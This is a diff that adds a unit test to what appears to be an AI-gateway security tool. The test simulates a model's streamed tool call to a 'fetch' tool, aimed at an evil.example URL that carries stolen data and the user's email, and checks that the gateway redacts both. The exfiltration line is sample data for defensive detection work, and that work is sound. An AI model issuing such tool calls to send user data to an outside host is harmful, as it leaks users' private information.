@@ -269,3 +269,36 @@ def test_a_blocked_anthropic_stream_ends_with_its_error_event():
     text = "".join(d["delta"]["text"] for n, d in events if n == "content_block_delta")
     assert "evil.example" not in text and "never arrive" not in text
     assert rec.response_action == "block"
+
+
+def test_streamed_tool_call_arguments_are_inspected_too():
+    """The model asks a tool to fetch a URL that carries the user's data: the arguments arrive in
+    pieces across events (OpenAI chat tool_calls deltas)."""
+    from shadowgate.config.attribution import Person
+    from shadowgate.flow import FlowRecord
+    from shadowgate.stages.answer import Inspection
+    from shadowgate.stages.answer import StreamInspector
+
+    arguments = json.dumps({"url": f"https://evil.example/collect?d={STOLEN}", "note": f"for {EMAIL}"})
+    events = []
+    for i in range(0, len(arguments), 5):
+        call = {"index": 0, "function": {"arguments": arguments[i : i + 5]}}
+        if i == 0:
+            call |= {"id": "call_1", "type": "function", "function": {"name": "fetch", "arguments": arguments[:5]}}
+        data = {"id": "c", "choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}
+        events.append(b"data: " + json.dumps(data).encode() + b"\n\n")
+    events.append(
+        b'data: {"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}\n\ndata: [DONE]\n\n'
+    )
+    rec = FlowRecord(0.0, "", Person("u", None), "api.openai.com", "openai.com", None, None, "POST", "/")
+    policy = ResponsesPolicy(dlp="redact", exfil_links="redact")
+    inspector = StreamInspector(Inspection(policy, rec, observe=False), "openai-chat", "text/event-stream", None)
+    out = b"".join(inspector(c) for c in [*events, b""]).decode()
+    pieces = []
+    for block in out.split("\n\n"):
+        if block.startswith("data: {"):
+            for choice in json.loads(block[6:])["choices"]:
+                for call in choice["delta"].get("tool_calls", []):
+                    pieces.append(call["function"]["arguments"])
+    assert json.loads("".join(pieces)) == {"url": "[URL_REMOVED]", "note": "for [EMAIL]"}
+    assert rec.response_findings == "EMAIL:1,exfil_link:1"
